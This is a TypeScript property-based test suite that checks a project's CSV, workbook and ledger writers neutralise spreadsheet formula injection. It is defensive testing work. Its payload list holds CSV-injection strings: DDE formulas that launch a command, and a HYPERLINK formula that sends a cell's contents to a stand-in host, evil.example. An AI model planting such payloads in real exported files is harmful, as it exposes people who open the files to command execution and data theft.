/** Texts of a file that a spreadsheet program would take for a formula: none of our writers leaves one, however it is opened. */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeChangesSheet } from '../../main/reporting/changes-sheet.ts';
import { csvLine } from '../../main/reporting/csv-text.ts';
import { writeCsvReport } from '../../main/reporting/csv-report.ts';
import { loadExcelJs } from '../../main/reporting/load-exceljs.ts';
import { writeProductsToMap } from '../../main/reporting/product-sheet.ts';
import { writeXlsxReport } from '../../main/reporting/xlsx-report.ts';
import { ledgerText, readLedgerText } from '../support/ledger-text.ts';
import { source } from '../main/reporting/report-of-texts.ts';

const payloads = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|1',
  '=HYPERLINK("http://evil.example?"&A1)',
  "-2+3+cmd|' /C calc'!A0",
  '+WEBSERVICE(A1)',
  '＝1+1',
  '=1+1',
];
const glue = [
  ',',
  ';',
  '\t',
  '|',
  ':',
  '\n',
  '\r\n',
  '\r',
  '\u2028',
  ' ',
  '"',
  '""',
  "'",
  '',
  'a',
  'Navoiy 5',
  '\u00a0',
];
/** A text in which a payload stands somewhere, behind anything. */
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...payloads), fc.constantFrom(...glue), fc.string({ maxLength: 4 })), {
    minLength: 1,
    maxLength: 6,
  })
  .map((parts) => parts.join(''));

/** Whether a program would compute something of the cell. A sign before a number or a word alone does nothing. */
function isDangerous(cell: string): boolean {
  const text = cell.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '');
  if (/^[=＝]/u.test(text)) return true;
  return (
    /^[+\-@＋－＠−]/u.test(text) &&
    /[\p{L}_][\p{L}\p{N}._]*\(|[\p{L}\p{N}_.']\||[\p{L}\p{N}_.'\]]!/u.test(text.split(';')[0] ?? '')
  );
}

/** The cells of a text that is cut at separator and line breaks, with quotes taken as such or as letters. */
function cellsOf(text: string, separator: string, quotes: boolean): readonly string[] {
  if (quotes) return Papa.parse<string[]>(text, { delimiter: separator }).data.flat();
  return text.split(/[\r\n\v\f\u0085\u2028\u2029]/u).flatMap((line) => line.split(separator));
}

let folder = '';
beforeAll(() => {
  folder = fs.mkdtempSync(path.join(os.tmpdir(), 'formulas-'));
});
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

describe('a csv of ours', () => {
  test.each([',', ';', '\t', '|', ':'])('has no formula when it is opened with «%s»', (separator) => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (fields) => {
        const text = csvLine(['id', ...fields, 'end']);
        for (const quotes of [true, false]) expect(cellsOf(text, separator, quotes).filter(isDangerous)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  test('the report, too', async () => {
    const rows = payloads.map((payload, index) => ({
      row: index + 2,
      cells: [String(index), `Navoiy 5\n${payload}`],
      orderKey: String(index),
    }));
    await writeCsvReport(path.join(folder, 'report.csv'), source({ rows: () => rows, rowCount: rows.length }));
    const text = fs.readFileSync(path.join(folder, 'report.csv'), 'utf8');
    for (const separator of [',', ';', '\t', '|'])
      for (const quotes of [true, false]) expect(cellsOf(text, separator, quotes).filter(isDangerous)).toEqual([]);
  });

  test('leaves what is no formula as it is', () => {
    expect(csvLine(['Navoiy 5, -2 qavat', 'tel: +998 90 123-45-67', '901234567, +998901112233', 'x, @karim'])).toBe(
      '"Navoiy 5, -2 qavat";tel: +998 90 123-45-67;"901234567, +998901112233";"x, @karim"\r\n',
    );
  });

  test('is written in time for a text of separators alone', () => {
    const long = '\n,+1'.repeat(8000);
    const before = performance.now();
    csvLine([long, '\n'.repeat(32_000)]);
    expect(performance.now() - before).toBeLessThan(5000);
  });
});

describe('a workbook of ours', () => {
  /** Values of all cells, after checking that none is a formula and that each text would stay one when it is edited. */
  async function textsOf(file: string): Promise<readonly string[]> {
    const { Workbook, ValueType } = await loadExcelJs();
    const workbook = new Workbook();
    await workbook.xlsx.readFile(file);
    const texts: string[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ValueType.Formula);
          expect(cell.type).not.toBe(ValueType.Hyperlink);
          if (cell.type !== ValueType.String && cell.type !== ValueType.RichText) return;
          expect([cell.address, cell.numFmt]).toEqual([cell.address, '@']);
          texts.push(cell.text);
        }),
      );
    return texts;
  }

  test('for products holds their names as texts', async () => {
    const file = path.join(folder, 'products.xlsx');
    await writeProductsToMap(
      file,
      payloads.flatMap((key) => [
        { keyKind: 'code' as const, key, count: 1 },
        { keyKind: 'name' as const, key: `\n${key}`, count: 1 },
      ]),
      'en',
    );
    expect(await textsOf(file)).toEqual(expect.arrayContaining(payloads));
  });

  test('for changes and for a report, too', async () => {
    const changes = path.join(folder, 'changes.xlsx');
    await writeChangesSheet(
      changes,
      payloads.map((payload, index) => ({
        orderId: index + 1,
        wmsId: null,
        batchId: 'b',
        row: 2,
        compared: true,
        server: payload,
        fileName: payload,
        at: 1_790_000_000_000,
        changes: [{ field: 'full_name', product: null, before: payload, after: payload }],
      })) as unknown as Parameters<typeof writeChangesSheet>[1],
      'en',
    );
    expect(await textsOf(changes)).toEqual(expect.arrayContaining(payloads));
    const report = path.join(folder, 'report.xlsx');
    const rows = payloads.map((payload, index) => ({
      row: index + 2,
      cells: [String(index), payload],
      orderKey: String(index),
    }));
    await writeXlsxReport(
      report,
      source({ rows: () => rows, rowCount: rows.length, headings: ['id', '=1+1'], fileName: '=1+1.xlsx' }),
    );
    expect(await textsOf(report)).toEqual(expect.arrayContaining(payloads));
  });
});

test('a ledger file has none, and is read back as it was', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 3 }), async (names) => {
      const entries = names.map((fileName, index) => ({
        server: 'https://wms-1.example:8443',
        orderId: index + 1,
        state: 'accepted' as const,
        bodyHash: null,
        fileName,
        wmsId: 5,
        at: 1_790_000_000_000,
        keys: [],
      }));
      const text = ledgerText(entries);
      for (const separator of [',', ';', '\t', '|', ':'])
        for (const quotes of [true, false])
          expect(cellsOf(text, separator, quotes).filter((cell) => /^[\s"{]*[=+\-@＝＋－＠−]/u.test(cell))).toEqual([]);
      expect(await readLedgerText(text)).toMatchObject({ ok: true, value: { entries, isProven: true } });
    }),
    { numRuns: 500 },
  );
});
